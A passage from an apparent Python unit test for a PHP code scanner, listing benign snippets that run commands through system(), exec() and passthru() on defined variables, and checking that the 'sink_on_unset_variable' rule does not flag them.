        b"<?php $cmd = 'uptime'; system($cmd);",                          # assigned
        b"<?php function run($cmd) { return exec($cmd); }",                # a parameter
        b"<?php foreach ($jobs as $job) { passthru($job); }",              # a loop variable
        b"<?php extract($opts); system($cmd);",                            # bulk-created (its own rules judge it)
        b"<?php list($a, $cmd) = explode(' ', $line, 2); exec($cmd);",     # list()
        b"<?php [$a, $cmd] = $pair; exec($cmd, $out);",                    # short list syntax
        b"<?php $f = function () use ($cmd) { system($cmd); };",           # closure use()
        b"<?php global $cmd; system($cmd);",                               # global
        b"<?php /* system($x) */ echo 1;",                                 # in a comment
        b"<?php $obj->exec($query); $db->eval($q);",                       # methods
    ):
        assert "sink_on_unset_variable" not in sig(path, benign), benign

